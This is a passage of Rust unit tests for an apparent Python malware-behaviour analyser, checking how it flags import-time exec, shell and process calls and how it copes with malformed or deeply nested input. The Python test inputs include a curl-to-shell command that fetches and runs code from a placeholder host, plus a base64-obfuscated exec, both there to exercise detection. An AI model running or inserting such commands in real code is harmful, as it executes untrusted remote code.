        assert!(f.contains(&"main_guard".to_string()));
        assert_eq!(behaviours(b"print('hello')\n"), vec!["no_sink".to_string()]);
        assert_eq!(behaviours(b"\"\"\"Package.\"\"\"\nfrom .models import backends  # noqa\n__all__ = ['backends']\n"), vec!["imports_only".to_string(), "no_sink".to_string()]);
        assert!(!behaviours(b"import os\nos.system('id')\n").contains(&"imports_only".to_string()));
        // Fetching with a fixed query, or a plain GET, sends nothing.
        let api = "import requests\nr = requests.get('https://api.github.com/repos/x/y/releases', params={'per_page': 5})\nprint(r.json())\nimport urllib.request\nurllib.request.urlopen('https://example.invalid/health')\n";
        let f = behaviours(api.as_bytes());
        assert!(!f.iter().any(|x| x.ends_with(">send") || x.ends_with("toplevel:send") || x.ends_with("toplevel_plain:send")), "{f:?}");
    }

    #[test]
    fn import_time_sinks_say_whether_anything_tracked_reaches_them() {
        let f = behaviours(b"import os;os.chmod(\"/usr/local/bin/entrypoint.sh\",0o755)\n");
        assert!(f.contains(&"toplevel_plain:chmod".to_string()) && !f.contains(&"toplevel:chmod".to_string()), "{f:?}");
        let f = behaviours(b"import subprocess; subprocess.check_call([\"pip\", \"install\", \"--upgrade\", \"pip\"])\n");
        assert!(f.contains(&"toplevel_plain:process".to_string()) && !f.contains(&"toplevel:process".to_string()), "{f:?}");
        let f = behaviours(b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
        assert!(f.contains(&"toplevel:exec".to_string()) && !f.contains(&"toplevel_plain:exec".to_string()), "{f:?}");
        let f = behaviours(b"exec(open('pkg/_version.py').read())\nsetup(name='pkg', version=__version__)\n");
        assert!(f.contains(&"toplevel_plain:exec".to_string()) && f.contains(&"filedata>exec".to_string()), "{f:?}");
        let f = behaviours(b"import os\nos.system('curl -s https://example.invalid/x | sh')\n");
        assert!(f.contains(&"toplevel:process".to_string()), "{f:?}");
        // Inside a function the sink is not run at import time.
        let f = behaviours(b"import os\ndef fix():\n    os.chmod('/usr/local/bin/entrypoint.sh', 0o755)\n");
        assert!(!f.iter().any(|x| x.starts_with("toplevel")), "{f:?}");
    }

    #[test]
    fn process_starts_say_how_the_process_is_started() {
        let forms = |code: &str| behaviours(code.as_bytes()).into_iter().filter(|f| f.starts_with("process_")).collect::<Vec<_>>();
        assert_eq!(forms("import subprocess\nsubprocess.check_call(['pip', 'install', '-U', 'pip'])\n"), ["process_argv"]);
        assert_eq!(forms("from subprocess import run\nrun(('git', 'describe', '--tags'), check=True)\n"), ["process_argv"]);
        assert_eq!(forms("import os\nos.system('pip install -U pip')\n"), ["process_shell"]);
        assert_eq!(forms("import subprocess as sp\nsp.Popen(['sh', '-c', 'id'], shell=True)\n"), ["process_shell"]);
        assert_eq!(forms("import subprocess\ncmd = ['git', 'describe']\nsubprocess.run(cmd, shell=False)\n"), ["process_other"]);
        assert!(forms("print('no process')\n").is_empty());
    }

    #[test]
    fn anything_parses_and_nothing_recurses_without_bound() {
        for code in [&b"\xff\xfe\x00def (:"[..], b"print 'python 2'\nexec 'x'\n", b"", b"(((((((("] {
            let _ = behaviours(code);
        }
        let parens = format!("x = {}1{}\n", "(".repeat(100_000), ")".repeat(100_000));
        let _ = behaviours(parens.as_bytes());
        // Deeper than CPython accepts: not analysed, said so.
        let calls = format!("x = {}1{}\n", "f(".repeat(50_000), ")".repeat(50_000));
        assert_eq!(behaviours(calls.as_bytes()), vec!["too_deep".to_string()]);
        let chain = format!("x = {}1\n", "- ".repeat(100_000));
        let _ = behaviours(chain.as_bytes());
        let sum = format!("x = 1{}\n", " + 1".repeat(60_000));
        let _ = behaviours(sum.as_bytes());
    }
}
